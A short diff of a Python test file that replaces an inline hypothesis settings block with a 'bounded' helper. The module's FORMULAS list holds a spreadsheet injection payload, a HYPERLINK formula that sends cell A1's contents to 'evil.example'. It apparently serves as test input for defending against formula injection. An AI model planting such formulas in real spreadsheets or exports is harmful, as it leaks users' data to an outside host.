@@ -15,7 +15,7 @@ import zipfile
 from pathlib import Path
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import given
 from hypothesis import strategies as st
 from rdflib import Literal
 from rdflib.namespace import SKOS
@@ -23,15 +23,10 @@ from rdflib.namespace import SKOS
 from reallabor.errors import InputError, ValidationFailed
 
 from .conftest import DATA, run_cli
+from .helpers import bounded
 
 MUSTERSTADT = DATA / "spreadsheet" / "musterstadt"
-BOUNDED = settings(
-    max_examples=40,
-    deadline=None,
-    derandomize=True,
-    database=None,
-    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
-)
+BOUNDED = bounded(40)
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     "=1+1",
